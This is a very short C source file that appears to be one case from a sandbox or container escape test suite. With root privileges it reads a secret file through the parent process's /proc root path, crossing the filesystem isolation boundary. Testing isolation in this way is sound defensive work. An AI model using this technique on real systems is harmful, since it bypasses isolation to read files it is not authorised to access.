/* Needs: root. The root directory of another process. */
#include "../attack.h"
int main(void) { return show_file(text("%s%s", proc(getppid(), "root"), SECRET)); }
